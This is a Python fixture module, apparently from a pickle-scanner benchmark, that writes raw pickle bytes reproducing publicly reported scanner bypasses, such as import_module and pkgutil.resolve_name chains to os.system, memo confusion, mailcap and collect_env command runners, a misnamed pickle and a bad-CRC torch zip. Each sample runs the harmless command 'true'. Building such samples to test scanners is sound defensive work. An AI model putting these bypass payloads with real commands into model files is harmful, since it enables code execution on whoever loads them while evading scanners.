"""Scanner bypasses described in public reports, rewritten here as bytes (nothing is unpickled).

Use `build_published_bypasses(folder)` -> [(family, label, path)], as bench/scan_compare.py does.
Each sample follows the technique of one public report (the reference is in its label's entry
below); the bytes are written from the description, each would run a command or reach the system
when loaded the usual way. These were collected after the scanner's own techniques were built and
are reported apart from them (family "published bypass").

References (public issue trackers and advisories):
- picklescan PR 74: importlib.import_module / marshal.loads were missing from the blocklist.
- picklescan issue 14: memo confusion by mixing BINPUT and MEMOIZE before STACK_GLOBAL.
- picklescan GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name reaches any callable by name.
- modelscan issue 85: BUILD sets attributes on numpy.prod, then STACK_GLOBAL reads them back.
- modelscan PR 346 / picklescan PR 69: mailcap.findmatch runs a mailcap entry's test command.
- modelscan PR 348: a GET of a missing memo entry after the payload crashes the scanner.
- JFrog (CVE-2025-10155/10156/10157): a plain pickle named like a torch file, a torch zip with
  bad CRCs, a dangerous callable in a submodule of a blocked package (asyncio.unix_events).
- torch-skills issue 21: torch.utils.collect_env.run runs a shell command.
"""

from __future__ import annotations

import io
import marshal
import struct
import zipfile
from pathlib import Path

from tests.fixtures.container_payloads import break_crc

Sample = tuple[str, str, Path]
FAMILY = "published bypass"


def _s(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _x(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


P2, P4 = b"\x80\x02", b"\x80\x04"
CMD = _x("true")


def _samples() -> dict[str, bytes]:
    code = marshal.dumps(compile("None", "<bypass>", "eval"))
    return {
        "importlib_import_module_getattr": P2
        + _g("builtins", "getattr")
        + b"("
        + _g("importlib", "import_module")
        + b"("
        + _x("os")
        + b"tR"
        + _x("system")
        + b"tR("
        + CMD
        + b"tR.",
        "marshal_loads_code": P2 + _g("marshal", "loads") + b"(C" + bytes([len(code)]) + code + b"tR.",
        "memo_put_memoize_mix": P4
        + _s("os")
        + b"q\x00"
        + _s("system")
        + b"q\x01"
        + _s("torch._utils")
        + b"\x94"
        + _s("_rebuild_tensor_v2")
        + b"\x94"
        + b"0000h\x00h\x01\x93"
        + CMD
        + b"\x85R.",
        "pkgutil_resolve_name": P2
        + _g("pkgutil", "resolve_name")
        + b"("
        + _x("os:system")
        + b"tR("
        + CMD
        + b"tR.",
        "numpy_prod_build_attributes": P4
        + _g("numpy", "prod")
        + b"N(Va\nVos\nd\x86b"  # BUILD with slot state: numpy.prod.a = 'os'
        + b"N(Vb\nVsystem\nd\x86b0"
        + _g("numpy", "prod.a")
        + b"p0\n"
        + _g("numpy", "prod.b")
        + b"p1\n00g0\ng1\n\x93"
        + CMD
        + b"\x85R.",
        "mailcap_findmatch": P2
        + _g("mailcap", "findmatch")
        + b"(}"
        + _x("text/plain")
        + b"](}"
        + _x("view")
        + _x("cat %s")
        + _x("test")
        + _x("true")
        + b"uas"  # caps = {'text/plain': [{'view': ..., 'test': 'true'}]}
        + _x("text/plain")
        + b"tR.",
        "missing_memo_after_payload": P4
        + _s("posix")
        + _s("system")
        + b"\x93"
        + CMD
        + b"\x85R0h\x07h\x08\x93.",
        "asyncio_submodule_callable": P2
        + _g("asyncio.unix_events", "_UnixSubprocessTransport._start")
        + b"(N"
        + _x("true")
        + b"\x88NNNK\x00tR.",
        "collect_env_run": P2 + _g("torch.utils.collect_env", "run") + b"(" + CMD + b"tR.",
    }


def _crc_zip() -> bytes:
    payload = P2 + _g("posix", "system") + CMD + b"\x85R."
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", payload)
        z.writestr("archive/version", "3\n")
    return break_crc(buf.getvalue(), b"archive/data.pkl")


def build_published_bypasses(root: Path) -> list[Sample]:
    root.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    for label, data in _samples().items():
        path = root / f"{label}.pkl"
        path.write_bytes(data)
        out.append((FAMILY, label, path))
    plain = root / "pytorch_model.bin"  # a plain pickle where a torch zip is expected (CVE-2025-10155)
    plain.write_bytes(P2 + _g("posix", "system") + CMD + b"\x85R.")
    out.append((FAMILY, "plain_pickle_named_bin", plain))
    crc = root / "bad_crc.pt"  # CVE-2025-10156
    crc.write_bytes(_crc_zip())
    out.append((FAMILY, "torch_zip_bad_crc", crc))
    return out
